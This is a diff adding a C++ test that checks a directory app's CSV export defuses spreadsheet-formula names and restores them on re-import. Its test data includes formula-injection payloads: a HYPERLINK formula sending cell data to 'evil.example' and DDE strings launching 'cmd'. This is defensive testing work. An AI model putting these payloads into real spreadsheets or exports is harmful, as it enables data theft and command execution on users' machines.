@@ -9,6 +9,7 @@
 #include "app/application.hpp"
 #include "common/ids.hpp"
 #include "db/testing/test_database.hpp"
+#include "directory/hsds_csv_io.hpp"
 #include "directory/hsds_export.hpp"
 #include "directory/hsds_files.hpp"
 
@@ -260,6 +261,56 @@ TEST_P(HsdsCsvTest, RowsOfUnknownParentsAreReportedAndTheRestImported) {
   ASSERT_TRUE(strict);
   EXPECT_EQ(strict->imported, 0u);
   EXPECT_EQ(count(*fresh.pool, "services"), 0);
+}
+
+// Issue 6, item 3: names a manager can type that a spreadsheet would run as formulas.
+TEST_P(HsdsCsvTest, FormulaNamesAreDefusedInTheCsvAndComeBackAsTyped) {
+  const std::vector<std::string> names = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
+                                          "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"};
+  json::array services;
+  for (size_t i = 0; i < names.size(); ++i) {
+    std::string id = "7b0e3c1a-0000-4000-8000-00000000010" + std::to_string(i);
+    services.push_back(json::object{
+        {"id", id},
+        {"name", names[i]},
+        {"organization",
+         json::object{{"id", "7b0e3c1a-0000-4000-8000-0000000002a" + std::to_string(i)}, {"name", names[i]}}},
+        {"x_filet", json::object{{"translations", json::object{{"fr", json::object{{"name", names[i]}}},
+                                                               {"en", json::object{{"name", names[i]}}}}}}}});
+  }
+  auto first = import_hsds(pool(), services, {}, "test", "");
+  ASSERT_TRUE(first) << first.error().detail;
+  ASSERT_EQ(first->imported, 4u);
+  TempDir dir;
+  auto c = pool().acquire();
+  ASSERT_TRUE(export_to_folder(**c, dir.path.string(), "fr"));
+  for (const char* file : {"services.csv", "x_filet_translations.csv", "organizations.csv"}) {
+    auto read = csv::read_file(dir.path / "csv" / file);
+    ASSERT_TRUE(read) << file;
+    size_t defused = 0;
+    for (const auto& record : read->records)
+      for (const auto& cell : record.cells) {
+        if (!cell || cell->empty()) continue;
+        EXPECT_EQ(std::string("=+-@\t\r").find(cell->front()), std::string::npos) << file << ": " << *cell;
+        if (std::find(names.begin(), names.end(), cell->substr(1)) != names.end()) ++defused;
+      }
+    EXPECT_GE(defused, std::string(file) == "x_filet_translations.csv" ? 8u : 4u) << file;
+  }
+  SecondDatabase fresh(GetParam());
+  ASSERT_TRUE(fresh.pool);
+  auto report = import_path(*fresh.pool, (dir.path / "csv").string(), {});
+  ASSERT_TRUE(report) << report.error().detail;
+  EXPECT_EQ(report->imported, 4u);
+  auto c2 = fresh.pool->acquire();
+  for (const char* lang : {"fr", "en"}) {
+    auto after = json::parse(*export_services_json(**c2, lang)).as_array();
+    ASSERT_EQ(after.size(), 4u);
+    for (const auto& s : after) {
+      const auto& o = s.as_object();
+      EXPECT_NE(std::find(names.begin(), names.end(), std::string(o.at("name").as_string())), names.end());
+      EXPECT_EQ(o.at("name"), o.at("organization").as_object().at("name"));
+    }
+  }
 }
 
 FILET_ON_BOTH_ENGINES(HsdsCsvTest);
